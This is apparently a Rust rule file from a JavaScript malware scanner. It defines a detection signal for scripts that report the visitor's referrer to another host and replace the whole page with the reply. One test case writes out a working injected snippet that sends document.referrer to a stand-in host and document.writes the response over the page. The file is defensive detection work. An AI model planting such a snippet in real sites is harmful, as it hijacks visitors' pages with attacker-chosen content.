//! `page-replaced-as-told`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::taint::{Mark, Sink};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "page-replaced-as-told",
    description: "The script tells another host where the visitor came from, and replaces the page with the response.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::Referrer]), one(&[Atom::Request, Atom::AnswerBody])],
    within: 200,
    only_if: Some(is_replaced),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var x=new XMLHttpRequest();x.open('GET','https://pick.example/p?r='+escape(document.referrer));x.onload=function(){document.open();document.write(x.responseText);document.close()};x.send()",
        ],
        without: &[
            "var x=new XMLHttpRequest();x.open('GET','/part?r='+escape(document.referrer));x.onload=function(){document.write(x.responseText)};x.send()",
            "var x=new XMLHttpRequest();x.open('GET','https://ads.example/p?r='+escape(document.referrer));x.onload=function(){slot.innerHTML=x.responseText};x.send()",
            r#"on('click',async a=>{document.body.innerHTML=await (await fetch(a.href)).text();ping('https://stats.ink.example/hit?p='+a.pathname+'&r='+document.referrer)})"#,
        ],
    },
};

/// Whether the whole page becomes what was answered by a host that is here.
fn is_replaced(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 150);
    let written = near.places();
    let whole = evidence
        .flows
        .iter()
        .filter(|flow| flow.sink == Sink::Markup && written.contains(&(flow.at as usize)))
        .any(|flow| {
            let of = (flow.at as usize).checked_sub(1).map_or("", |before| near.word(before));
            (flow.marks.has(Mark::Response) || flow.marks.has(Mark::Remote))
                && (matches!(of, "documentElement" | "body") || of == "document" && near.has_word(&["close"]))
        });
    let told = || near.words(&["referrer"]).any(|at| !is_counted(near, at));
    whole && near.has_text(&["https://", "http://"]) && told()
}

/// Whether it goes to what counts visits, not to what is asked for a page.
fn is_counted(near: Near<'_>, at: usize) -> bool {
    near.among(at.saturating_sub(24)..at).has_word(&[
        "Image",
        "sendBeacon",
        "ping",
        "track",
        "gtag",
        "ga",
        "dataLayer",
        "fbq",
    ])
}
